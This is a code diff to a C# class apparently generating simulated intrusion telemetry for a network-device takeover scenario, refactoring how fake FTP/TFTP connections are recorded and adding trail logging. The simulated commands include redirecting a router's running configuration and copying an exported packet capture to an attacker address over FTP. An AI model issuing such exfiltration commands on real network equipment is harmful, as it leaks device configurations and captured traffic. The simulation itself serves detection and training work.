@@ -226,18 +226,15 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
             $"show running-config | redirect {target}"
         );
         reading.Command(copy, "T23", "T74", "S1");
-        Wire.Connection(
-            Scene,
-            reading.Now.AddSeconds(2),
-            new Conversation(Cast.Edge.Address, Craft.WebAddress, tftp ? 69 : 21, tftp ? "udp" : "tcp")
-            {
-                Service = tftp ? "-" : "ftp",
-                Seconds = 9,
-                BytesOut = 62_464,
-                BytesIn = 488,
-            },
-            Mark(StageIds.Theft, "~T74")
-        );
+        Conversation talk = new(Cast.Edge.Address, Craft.WebAddress, tftp ? 69 : 21, tftp ? "udp" : "tcp")
+        {
+            Service = tftp ? "-" : "ftp",
+            Seconds = 9,
+            BytesOut = 62_464,
+            BytesIn = 488,
+        };
+        Wire.Connection(Scene, reading.Now.AddSeconds(2), talk, Mark(StageIds.Theft, "~T74"));
+        Trail.Conversation(Scene, Cast.Edge, reading.Now.AddSeconds(2), talk, Mark(StageIds.Theft, "T74"));
         reading.Close();
     }
 
@@ -283,18 +280,15 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         string file = Habit("store", "bootflash:", "flash:", "harddisk:", "bootflash:tracelogs/") + Craft.CaptureFile;
         session.Command($"monitor capture {name} export {file}", "~T60", "S3");
         session.Command($"copy {file} ftp://{Craft.WebAddress}/", "T74", "S3");
-        Wire.Connection(
-            Scene,
-            session.Now.AddSeconds(3),
-            new Conversation(Cast.Edge.Address, Craft.WebAddress, 21, "tcp")
-            {
-                Service = "ftp",
-                Seconds = 24,
-                BytesOut = 1_904_220,
-                BytesIn = 2_210,
-            },
-            Mark(StageIds.Capture, "~T74")
-        );
+        Conversation talk = new(Cast.Edge.Address, Craft.WebAddress, 21, "tcp")
+        {
+            Service = "ftp",
+            Seconds = 24,
+            BytesOut = 1_904_220,
+            BytesIn = 2_210,
+        };
+        Wire.Connection(Scene, session.Now.AddSeconds(3), talk, Mark(StageIds.Capture, "~T74"));
+        Trail.Conversation(Scene, Cast.Edge, session.Now.AddSeconds(3), talk, Mark(StageIds.Capture, "T74"));
         session.Close();
     }
 }
